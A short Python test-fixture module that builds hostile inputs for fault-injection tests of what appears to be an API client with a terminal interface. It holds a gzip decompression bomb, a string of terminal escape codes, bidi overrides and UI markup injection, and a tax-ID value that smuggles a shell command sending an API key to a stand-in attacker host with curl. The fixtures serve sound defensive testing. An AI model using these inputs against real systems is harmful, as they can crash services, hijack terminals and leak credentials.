"""The bodies of some faults: a packed bomb, wrong types, nasty texts."""

from __future__ import annotations

import zlib
from typing import Final


def bomb() -> bytes:
    if not _BOMB:
        packer = zlib.compressobj(wbits=31)
        piece = b" " * 1_000_000
        _BOMB.append(b"".join(packer.compress(piece) for _ in range(30)) + packer.flush())
    return _BOMB[0]


_BOMB: Final[list[bytes]] = []


def twisted(value: object, *, outermost: bool = False) -> object:
    if isinstance(value, dict) and outermost:
        return {name: twisted(inner) for name, inner in value.items()}
    if isinstance(value, list) and outermost:
        return [twisted(inner, outermost=True) for inner in value]
    return 5 if isinstance(value, str | list | dict | bool) else "5"


NASTY: Final = (
    "\x1b]0;owned\x07\x1b[2J\x9b31m\u202etxt\u200b\ud800[@click=app.quit]x[/] a" + "\u0301" * 50
)
EVIL_TAX_ID: Final = "1'; curl evil.invalid/?k=$FIRMETERM_API_KEY #"


def with_nasty_text(value: object) -> object:
    if isinstance(value, dict):
        return {n: v if n == "taxId" else with_nasty_text(v) for n, v in value.items()}
    if isinstance(value, list):
        return [with_nasty_text(inner) for inner in value]
    return value + NASTY if isinstance(value, str) else value
